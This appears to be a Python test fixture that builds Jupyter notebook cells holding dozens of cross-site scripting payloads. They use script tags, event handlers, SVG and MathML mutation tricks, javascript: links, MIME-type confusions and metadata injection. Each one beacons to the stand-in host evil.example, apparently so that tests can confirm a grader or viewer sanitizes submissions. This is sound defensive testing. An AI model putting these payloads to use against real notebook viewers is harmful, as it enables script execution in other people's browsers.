"""What a submission may hold to act in the browser of whoever looks at it. No two go through the same place and form.

Each form tells `EVIL` its name, by a script or by a request of its own. `forms()` gives a notebook's cells by name.
"""

import base64
import json

#: Nobody's address: the tests answer for it, and note who asks.
EVIL = "http://evil.example"

PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

#: Markdown, and HTML that a cell shows. `JS` is a script that tells, `URL` an address that does.
_BOTH = {
    "script": "<script>JS</script>",
    "script-from-elsewhere": "<script src='URL'></script>",
    "script-in-odd-case": "<ScRiPt >JS</sCrIpT >",
    "script-unclosed": "<script>JS</script",
    "script-module": "<script type=module>JS</script>",
    "img-onerror": "<img src=x onerror=\"JS\">",
    "img-slashes": "<img/src=x/onerror=\"JS\">",
    "img-from-elsewhere": "<img src='URL'>",
    "img-srcset": "<img srcset='URL 1x'>",
    "img-set-in-a-picture": "<picture><source srcset='URL'><img src=x></picture>",
    "svg-onload": "<svg onload=\"JS\"></svg>",
    "svg-script": "<svg><script>JS</script></svg>",
    "svg-image": "<svg width=9 height=9><image href='URL' width=9 height=9></image></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=JS/>#x'/></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values='javascript:JS'/><text y=20>CLICK</text></a></svg>",
    "svg-set": "<svg><set attributeName=x onbegin=\"JS\"></set></svg>",
    "svg-foreign-object": "<svg><foreignObject><img src=x onerror=\"JS\"></foreignObject></svg>",
    "svg-fill": "<svg width=9 height=9><rect width=9 height=9 fill=\"url(URL)\"/></svg>",
    "svg-filter": "<svg width=9 height=9><filter id=f><feImage href='URL'/></filter>"
    "<rect width=9 height=9 filter='url(#f)'/></svg>",
    "mathml-href": "<math href='javascript:JS'><mtext>CLICK</mtext></math>",
    "mathml-mutation": "<math><mtext><table><mglyph><style><!--</style>"
    "<img title=\"--&gt;&lt;img src=1 onerror='JS'&gt;\">",
    "noscript-mutation": "<noscript><p title=\"</noscript><img src=x onerror='JS'>\"></noscript>",
    "comment-mutation": "<!--><img src=x onerror=\"JS\">-->",
    "cdata-mutation": "<![CDATA[><img src=x onerror=\"JS\">]]>",
    "textarea-mutation": "<textarea><p title=\"</textarea><img src=x onerror='JS'>\"></textarea>",
    "iframe-srcdoc": "<iframe srcdoc=\"<script>JS</script>\"></iframe>",
    "iframe-javascript": "<iframe src=\"javascript:JS\"></iframe>",
    "iframe-data": "<iframe src=\"data:text/html,<script>JS</script>\"></iframe>",
    "iframe-from-elsewhere": "<iframe src='URL'></iframe>",
    "object-data": "<object data=\"data:text/html,<script>JS</script>\"></object>",
    "embed": "<embed src='URL'>",
    "meta-refresh": "<meta http-equiv=refresh content=\"0;url=URL\">",
    "base": "<base href='http://evil.example/base/'>",
    "link-stylesheet": "<link rel=stylesheet href='URL'>",
    "link-preload": "<link rel=preload as=image href='URL'>",
    "style-import": "<style>@import 'URL';</style>",
    "style-background": "<style>.container { background: url(URL) }</style>",
    "style-attribute": "<p style=\"background-image: url(URL)\">x</p>",
    "style-escaped": "<p style=\"background-image: \\75rl(URL)\">x</p>",
    "style-list": "<ul style=\"list-style-image: url(URL)\"><li>x</li></ul>",
    "style-image-set": "<p style=\"background: image-set('URL' 1x)\">x</p>",
    "form": "<form action='URL'><button>CLICK</button></form>",
    "formaction": "<button form=none formaction='javascript:JS'>CLICK</button>",
    "input-image": "<input type=image src='URL'>",
    "input-autofocus": "<input autofocus onfocus=\"JS\">",
    "details-ontoggle": "<details open ontoggle=\"JS\">x</details>",
    "body-onload": "<body onload=\"JS\">",
    "handler-on-anything": "<p tabindex=1 onpointerenter=\"JS\" onclick=\"JS\">CLICK</p>",
    "animation": "<style>@keyframes a{}</style><p style='animation:a 1s' onanimationstart=\"JS\">x</p>",
    "video": "<video src='URL'></video>",
    "video-poster": "<video poster='URL'></video>",
    "audio-source": "<audio><source src='URL' onerror=\"JS\"></audio>",
    "a-javascript": "<a href=\"javascript:JS\">CLICK</a>",
    "a-javascript-split": "<a href=\"java&#9;script:JS\">CLICK</a>",
    "a-data": "<a href=\"data:text/html,<script>JS</script>\" target=_self>CLICK</a>",
    "a-blob": "<a href=\"blob:JS\" onclick=\"JS\">CLICK</a>",
    "a-ping": "<a href='#here' ping='URL'>CLICK</a>",
    "a-to-a-file": "<a href='page.html'>CLICK</a>",
    "table-background": "<table background='URL'><tr><td background='URL'>x</td></tr></table>",
    "bootstrap-tooltip": "<b data-toggle=tooltip data-html=true title=\"<img src=x onerror='JS'>\">CLICK</b>",
}  # fmt: skip

#: Markdown alone.
_MARKDOWN = {
    "link-javascript": "[CLICK](javascript:JS)",
    "link-reference": "[CLICK][there]\n\n[there]: javascript:JS",
    "link-automatic": "<javascript:JS>",
    "link-in-angles": "[CLICK](<javascript:JS>)",
    "link-data": "[CLICK](data:text/html;base64,PGI+)",
    "link-entities": "[CLICK](&#106;avascript:JS)",
    "image": "![x](URL)",
    "image-reference": "![x][there]\n\n[there]: URL",
    "image-breaks-out": "![x\" onerror=\"JS](x)",
    "title-breaks-out": "[x](#here '\" onpointerenter=\"JS')",
    "code-fence-mermaid": "```mermaid\n<img src=x onerror=\"JS\">\n```",
    "html-between-bare-tags": "<b>x</b><b\n><img src=x onerror=\"JS\"></b>",
    "html-in-a-table": "|a|b|\n|-|-|\n|<img src=x onerror=\"JS\">|c|",
    "html-in-a-heading": "# <img src=x onerror=\"JS\">",
    "html-in-mathematics": "$x</script><img src=x onerror=\"JS\">$",
    "mathematics-with-a-link": "$\\href{javascript:JS}{CLICK}$",
    "mathematics-with-a-style": "$\\style{background-image:url(URL)}{x}$",
    "code-span-that-ends": "`x\n\n<img src=x onerror=\"JS\">`",
}  # fmt: skip


#: Kinds of data under which a front end, or one with an extension, takes a text for a page or a program. Some are
#: spelled so that a list of known kinds may miss them.
_PROGRAMS = (
    *("TEXT/HTML", "text/html ", "text/html; charset=utf-8", "application/xhtml+xml", "text/xml", "text/vnd.graphviz"),
    *("application/x-javascript", "text/javascript", "application/ecmascript", "text/x-mathjax-config"),
    *("application/vnd.bokehjs_exec.v0+json", "application/vnd.holoviews_exec.v0+json", "text/x-nbmeta+html"),
    *("image/svg", "image/svg+xml;x", "image/png;x", "video/mp4", "audio/x-wav", "application/vnd.jupyter.stdout"),
)

#: Kinds of data that are no text, in which a front end looks for texts that it shows as a page. `TELL` is a script.
_STRUCTURES = {
    "application/json": {"html": "<img src=x onerror='TELL'>"},
    "application/geo+json": {"type": "Feature", "properties": {"popup": "<img src=x onerror='TELL'>"}},
    "application/vdom.v1+json": {"tagName": "img", "attributes": {"src": "x", "onerror": "TELL"}, "children": []},
    "application/vnd.plotly.v1+json": {"data": [{"text": "<a href='javascript:TELL'>CLICK</a>"}], "layout": {}},
    "application/vnd.vega.v5+json": {"signals": [{"name": "x", "update": "TELL"}]},
    "application/vnd.vegalite.v5+json": {"usermeta": {"embedOptions": {"loader": {"baseURL": "javascript:TELL"}}}},
    "application/vnd.dataresource+json": {"schema": {"fields": [{"name": "<img src=x onerror='TELL'>"}]}},
    "application/vnd.jupyter.widget-state+json": {"state": {"x": {"state": {"value": "<img onerror='TELL'>"}}}},
    "application/vnd.jupyter.error": {"message": "<img src=x onerror='TELL'>"},
    "application/x-anything+json": ["<img src=x onerror='TELL'>"],
    "text/html": {"html": "<img src=x onerror='TELL'>"},
    "image/png": ["<img src=x onerror='TELL'>"],
}

#: What a cell does when it is graded. As it was handed in it has shown nothing.
_RUN = {
    "javascript": 'from IPython.display import Javascript, display\ndisplay(Javascript("""JS"""))',
    "update-display": "from IPython.display import HTML, display\nplace = display(1, display_id='x')\n"
    'place.update(HTML("""<script>JS</script>"""))',
    "magic-html": "%%html\n<script>JS</script>",
    "magic-javascript": "%%javascript\nJS",
    "magic-svg": "%%svg\n<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS\"/>",
    "iframe": "from IPython.display import IFrame\nIFrame('URL', 100, 100)",
    "own-repr": 'class Page:\n    def _repr_html_(self):\n        return """<img src=x onerror=\'JS\'>"""\nPage()',
    "own-mimebundle": "class Page:\n    def _repr_mimebundle_(self, include=None, exclude=None):\n"
    '        return {"application/javascript": """JS""", "text/html": """<svg onload=\'JS\'>"""}\nPage()',
    "pager": "get_ipython().payload_manager.write_payload("
    '{"source": "page", "start": 0, "data": {"text/html": """<script>JS</script>"""}})',
    "exception": "class Odd(Exception):\n    def _render_traceback_(self):\n"
    '        return ["""<img src=x onerror=\'JS\'>"""]\nraise Odd()',
    "name-of-an-exception": 'raise type("""<img src=x onerror=\'JS\'>""", (Exception,), {})(\'<svg onload=1>\')',
    "pandas": 'import pandas\npandas.DataFrame({\'x\': ["""<img src=x onerror=\'JS\'>"""]}).style',
}


def forms():
    """The cells, by name: JSON as a notebook's file has it. Code cells have outputs as if they had been run."""
    found = {}
    for name, text in _BOTH.items():
        found[f"markdown/{name}"] = _cell("markdown", name, text)
        found[f"output/{name}"] = _shows(name, {"text/html": _filled(text, f"output/{name}")})
    for name, text in _MARKDOWN.items():
        found[f"markdown/{name}"] = _cell("markdown", name, text)
    for name in ("script", "img-onerror", "a-javascript", "iframe-srcdoc"):
        found[f"raw/{name}"] = _cell("raw", name, _BOTH[name])
        key = f"output-markdown/{name}"
        found[key] = _shows(name, {"text/markdown": _filled(_BOTH[name], key)})
    for kind in ("application/javascript", "text/vnd.mermaid", "text/latex", "application/pdf", "image/svg+xml"):
        key = f"output/{kind.replace('/', '-')}"
        content = _filled("<svg xmlns='http://www.w3.org/2000/svg' onload=\"JS\"><script>JS</script></svg>", key)
        found[key] = _shows(key, {kind: _filled("JS", key) if "javascript" in kind else content})
    for kind in _PROGRAMS:
        key = f"output-kind/{kind.replace('/', '-').strip()}"
        found[key] = _shows(key, {kind: _filled(_BOTH["script"] + _BOTH["img-onerror"], key)})
    for kind, content in _STRUCTURES.items():
        key = f"output-structure/{kind.replace('/', '-')}"
        found[key] = _shows(key, {kind: json.loads(json.dumps(content).replace("TELL", _js(key)))})
    for name, source in _RUN.items():
        found[f"run/{name}"] = {**_cell("code", name, "1"), "source": _filled(source, f"run/{name}")}
    key = "output/html-in-pieces"
    found[key] = _shows(key, {"text/html": ["<scr", f"ipt>{_js(key)}</scr", "ipt>"]})
    key = "output/link-of-a-terminal"
    found[key] = _shows(key, {})
    link = f"\x1b]8;;javascript:{_js(key)}\x1b\\CLICK\x1b]8;;\x1b\\\x1b[31m{_filled(_BOTH['img-onerror'], key)}"
    found[key]["outputs"] = [{"output_type": "stream", "name": "stderr", "text": link}]
    key = "output/widget"
    found[key] = _shows(key, {"application/vnd.jupyter.widget-view+json": {"model_id": "</script><script>1"}})
    for kind in ("image/png", "image/jpeg"):
        key = f"output/{kind.replace('/', '-')}-breaks-out"
        found[key] = _shows(key, {kind: _filled('" onerror="JS" x="', key)})
    key = "output/width-of-a-picture"
    found[key] = _shows(key, {"image/png": PIXEL})
    found[key]["outputs"][0]["metadata"] = {"image/png": {"width": _filled("1 onload=JS", key)}}
    key = "output/isolated"
    found[key] = _shows(key, {"text/html": _filled("<script>JS</script>", key)})
    found[key]["outputs"][0]["metadata"] = {"text/html": {"isolated": True}}
    key = "output/stream"
    found[key] = _shows(key, {})
    found[key]["outputs"] = [{"output_type": "stream", "name": "stdout", "text": _filled(_BOTH["img-onerror"], key)}]
    key = "output/error"
    found[key] = _shows(key, {})
    text = _filled(_BOTH["img-onerror"], key)
    found[key]["outputs"] = [{"output_type": "error", "ename": text, "evalue": text, "traceback": [text]}]
    key = "attachment/svg"
    picture = base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{_js(key)}\"/>".encode()).decode()
    found[key] = _cell("markdown", "svg", "![x](attachment:a.svg)")
    found[key]["attachments"] = {"a.svg": {"image/svg+xml": picture}}
    key = "attachment/breaks-out"
    found[key] = _cell("markdown", "breaks-out", "![x](attachment:a.png)")
    found[key]["attachments"] = {"a.png": {"image/png": _filled('" onerror="JS', key)}}
    key = "attachment/html"
    found[key] = _cell("markdown", "html", "[CLICK](attachment:a.html) ![x](attachment:a.html)")
    found[key]["attachments"] = {"a.html": {f"text/html,{_filled('<script>JS</script>', key)}": ""}}
    key = "metadata/tags"
    found[key] = _cell("code", "tags", "1")
    found[key]["metadata"] = {"tags": [_filled("\"><img src=x onerror='JS'>", key)]}
    key = "metadata/language"
    found[key] = _cell("code", "language", "1")
    found[key]["metadata"] = {"magics_language": _filled("\"><img src=x onerror='JS'>", key)}
    key = "metadata/comment"
    found[key] = _cell("markdown", "comment", "x")
    comment = _filled(_BOTH["img-onerror"], key)
    found[key]["metadata"] = {"nbgrader": {"solution": True, "grade": True, "points": 1, "comment": comment}}
    key = "metadata/execution-count"
    found[key] = _cell("code", "execution-count", "1")
    found[key]["execution_count"] = _filled("<img src=x onerror='JS'>", key)
    key = "metadata/id-of-the-cell"
    found[key] = _cell("code", "id", "1")
    found[key]["id"] = _filled("\"><img src=x onerror='JS'>", key)
    key = "source/code"
    found[key] = _cell("code", "code", _BOTH["img-onerror"])
    return found


def _js(key):
    return f"new Image().src='{EVIL}/{key}'"


def _filled(text, key):
    return text.replace("JS", _js(key).replace("'", "&#39;") if "='JS'" in text else _js(key)).replace(
        "URL", f"{EVIL}/{key}"
    )


def _cell(kind, name, text):
    cell = {"cell_type": kind, "metadata": {}, "source": _filled(text, f"{kind}/{name}")}
    if kind == "code":
        cell |= {"outputs": [], "execution_count": None, "source": _filled(text, f"source/{name}")}
    return cell


def _shows(name, data):
    """A code cell that shows something; run again, it shows it again."""
    source = f"from IPython.display import display\ndisplay({json.loads(json.dumps(data))!r}, raw=True)"
    shown = {"output_type": "display_data", "metadata": {}, "data": data}
    return {"cell_type": "code", "metadata": {}, "source": source, "outputs": [shown], "execution_count": None}
